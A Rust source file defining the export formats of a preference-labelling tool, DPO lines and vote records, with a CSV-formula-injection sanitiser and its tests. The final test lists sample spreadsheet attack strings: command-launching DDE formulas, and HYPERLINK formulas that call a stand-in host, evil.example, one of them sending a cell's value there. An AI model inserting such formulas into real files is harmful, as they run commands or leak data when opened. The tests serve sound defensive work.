//! The rows of the exports (`GET /api/projects/{id}/export/...`): TRL DPO lines with the
//! metadata to slice them by, and every raw vote. Files, not JSON replies, but the same
//! contract: the server writes these types and whoever reads the files can parse them back.

use serde::{Deserialize, Serialize};

use crate::vocab::{Acquisition, Choice, PairKind, Side};

/// How a pair's votes fell (a judge's "no decision" counts as a skip, never as a side).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct VoteCounts {
    pub a: i64,
    pub b: i64,
    pub tie: i64,
    pub both_bad: i64,
    pub skip: i64,
}

impl VoteCounts {
    pub fn add(&mut self, choice: Choice) {
        match choice {
            Choice::A => self.a += 1,
            Choice::B => self.b += 1,
            Choice::Tie => self.tie += 1,
            Choice::BothBad => self.both_bad += 1,
            Choice::Skip => self.skip += 1,
        }
    }

    /// The strict majority between A and B, if any.
    pub fn winner(&self) -> Option<Side> {
        (self.a != self.b && self.a + self.b > 0).then_some(if self.a > self.b { Side::A } else { Side::B })
    }
}

/// A line of `dpo.jsonl`: TRL's `{prompt, chosen, rejected}` and the metadata to slice by.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DpoLine {
    pub prompt: String,
    pub chosen: String,
    pub rejected: String,
    pub metadata: DpoMetadata,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DpoMetadata {
    pub pair_id: String,
    pub round: Option<i64>,
    pub acquisition: Option<Acquisition>,
    pub r_a: Option<f64>,
    pub r_b: Option<f64>,
    pub margin: Option<f64>,
    pub entropy: Option<f64>,
    /// Which completion is `chosen`.
    pub chosen_is: Side,
    pub votes: VoteCounts,
    /// Names of the raters (or judges) who voted.
    pub raters: Vec<String>,
    /// An imported row's own fields besides prompt, chosen and rejected.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub extra: Option<crate::ExtraFields>,
}

/// One vote as stored: a line of `votes.jsonl`, a row of `votes.csv` (in this column order).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "sqlx", derive(sqlx::FromRow))]
pub struct Vote {
    pub pair_id: String,
    pub pair_kind: PairKind,
    pub round: Option<i64>,
    pub rater_id: String,
    pub rater: String,
    pub choice: Choice,
    /// Which completion was on the left.
    pub left: Side,
    pub time_ms: i64,
    pub rationale: Option<String>,
    pub gold_choice: Option<Choice>,
    pub created_at: i64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn majority_between_a_and_b_only() {
        let mut v = VoteCounts::default();
        assert_eq!(v.winner(), None);
        for c in [Choice::A, Choice::Tie, Choice::BothBad, Choice::Skip] {
            v.add(c);
        }
        assert_eq!(v.winner(), Some(Side::A));
        v.add(Choice::B);
        assert_eq!(v.winner(), None, "a tie between A and B is no preference");
    }
}

/// A CSV cell as a spreadsheet will not run it: text that a spreadsheet would read as a formula
/// (first character `=`, `+`, `-` or `@` after leading blanks, or a leading tab or carriage
/// return, OWASP's list) gets a leading `'`, which spreadsheets show as text. Numbers stay
/// numbers (`-0.25` is not a formula), so numeric columns keep their values. Every CSV the
/// server writes and every CSV the browser offers passes its cells through here: a rater's
/// rationale or a name typed by anyone is otherwise a formula in the admin's spreadsheet.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    // Spreadsheets skip leading blanks and control characters before reading a formula.
    let trimmed = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let risky = text.starts_with(['\t', '\r']) || trimmed.starts_with(['=', '+', '-', '@']);
    if risky && text.trim().parse::<f64>().is_err() { format!("'{text}").into() } else { text.into() }
}

#[cfg(test)]
mod csv_tests {
    use super::csv_cell;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for attack in [
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "  =1+1",
            "\t=1+1",
            "\r=1+1",
            "\tplain after a tab",
            " \t=HYPERLINK(\"http://evil.example\")",
            "\n=1+1",
            "\u{a0}\u{2003}@SUM(1)",
        ] {
            assert_eq!(csv_cell(attack), format!("'{attack}"), "{attack:?}");
        }
        for safe in ["-0.25", "+1", "12", "plain text", "a = b", "", "x@example.com", "1e-3", " -3 "] {
            assert_eq!(csv_cell(safe), safe, "{safe:?}");
        }
    }
}
